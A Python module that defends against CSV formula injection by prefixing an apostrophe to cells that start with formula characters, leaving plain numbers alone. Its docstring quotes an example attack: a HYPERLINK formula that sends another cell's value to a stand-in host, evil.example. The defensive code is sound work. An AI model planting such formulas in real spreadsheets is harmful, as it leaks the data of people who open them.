"""Text going into a spreadsheet cell, made safe to open.

A CSV cell starting with = + - @, a tab or a carriage return is a formula to Excel, LibreOffice and Google
Sheets: a complainant named `=HYPERLINK("http://evil.example/?x="&B2,"Click")` would become a live link leaking
the row. Such cells get a leading apostrophe, as OWASP advises: the spreadsheet shows the text and runs nothing.
Plain numbers (-3, +4.5) are left as they are.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def neutralised(text: str) -> str:
    """`text` as a spreadsheet will show but never run it."""
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
